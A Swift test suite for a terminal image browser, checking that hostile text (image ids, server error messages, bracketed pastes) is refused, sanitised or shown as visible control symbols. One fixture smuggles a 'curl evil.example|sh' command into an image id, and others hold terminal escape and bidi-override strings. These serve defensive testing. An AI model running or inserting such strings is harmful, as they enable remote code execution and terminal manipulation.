import Foundation
import QingCloud
import Testing
import TerminalVocabulary
@testable import ImageBrowser

/// Text from outside in the browser: what is copied, how server errors show, and pastes into the filter.
@Suite("Hostile input in the browser")
struct HostileInputTests {
    static let hostileID = "img-evil\r\ncurl evil.example|sh\r\n"

    @Test("c refuses an id holding control characters, and says so")
    func copyRefusesControlCharacters() {
        var harness = Harness(images: [Fixtures.image(1), Fixtures.image(2)])
        harness.server.images[1].id = Self.hostileID
        harness.answerAll()
        harness.press(.down, .character("c"))
        #expect(harness.selectedKey == Self.hostileID)
        #expect(harness.copied.isEmpty)
        #expect(harness.state.message?.kind == .warning)
        let footer = harness.render().text(ofRow: 39)
        #expect(footer.contains("not copied"), "\(footer)")
        #expect(footer.contains("img-evil␍␊curl"), "\(footer)")
        for bidi in ["img-\u{202E}fdp", "img-\u{9B}31m", "img-\u{7F}"] {
            var other = Harness(images: [Fixtures.image(1)])
            other.server.images[0].id = bidi
            other.answerAll()
            other.press(.character("c"))
            #expect(other.copied.isEmpty, "\(bidi.debugDescription)")
        }
    }

    @Test("a server error in the header is one line of at most 300 characters, controls made visible")
    func serverErrorIsOneShortLine() {
        var harness = Harness(images: Fixtures.images(5))
        let message = "InternalError\r\nqcimages: fake\u{1B}]0;pwned\u{07}\u{9B}2J\u{202E}" + String(repeating: "x", count: 1_000_000)
        harness.answerNext(with: .failure(.api(APIError(code: 5000, message: message), hint: nil)))
        let error = harness.state.health.error?.message ?? ""
        #expect(!error.unicodeScalars.contains(where: Sanitizer.isUnsafe))
        #expect(error.contains("InternalError␍␊qcimages: fake␛]0;pwned␇"))
        #expect(error.count < 400, "\(error.count) characters")
        let frame = harness.render().text
        #expect(!frame.unicodeScalars.contains { Sanitizer.isUnsafe($0) && $0 != "\n" })

        // The malformed-response excerpt: C1 and bidi controls are made visible too, not only C0.
        var malformed = Harness(images: Fixtures.images(5))
        let excerpt = "{\u{9B}31m\u{202E}gnp.exe\u{1B}]0;pwned\u{07}"
        malformed.answerNext(with: .failure(.malformedResponse(reason: "not valid JSON", offset: 1, excerpt: excerpt)))
        let shown = malformed.state.health.error?.message ?? ""
        #expect(shown.contains("malformed response"))
        #expect(!shown.unicodeScalars.contains(where: Sanitizer.isUnsafe), "\(shown.debugDescription)")
    }

    @Test("characters read together are one edit of the filter: one parse and one filtering pass")
    func typedTextIsOneEdit() {
        var harness = Harness(images: BrowserFilterTests.images)
        harness.answerAll()
        let before = harness.state.filter.generation
        harness.send(.typed("/ubuntu server"))
        #expect(harness.state.filter.isEditing)
        #expect(harness.state.filter.text == "ubuntu server")
        #expect(harness.state.filter.caret == 13)
        #expect(harness.state.filter.generation == before + 1, "one edit")
        #expect(harness.visibleIDs == [Fixtures.id(1)])
        // Outside the filter bar each character is still a key: "jjq" moves twice and quits.
        var keys = Harness(images: Fixtures.images(10))
        keys.answerAll()
        keys.send(.typed("jj"))
        #expect(keys.selectedKey == Fixtures.id(3))
        keys.send(.typed("jq/x"))
        #expect(keys.quitRequested)
        #expect(keys.state.filter.text.isEmpty, "nothing after q is taken")
    }

    @Test("a bracketed paste goes into the filter bar as text, opening it; q and Enter in it are text")
    func pasteIsTextNeverKeys() {
        var harness = Harness(images: BrowserFilterTests.images)
        harness.answerAll()
        harness.send(.pasted("q\ncentos\t\u{1B}[2J"))
        #expect(!harness.quitRequested)
        #expect(harness.state.filter.isEditing)
        #expect(harness.state.filter.text == "q centos [2J")
        harness.press(.control("u"))
        harness.press(.character("x"), .left)
        harness.send(.pasted("centos"))
        #expect(harness.state.filter.text == "centosx")
        #expect(harness.state.filter.caret == 6)
    }
}
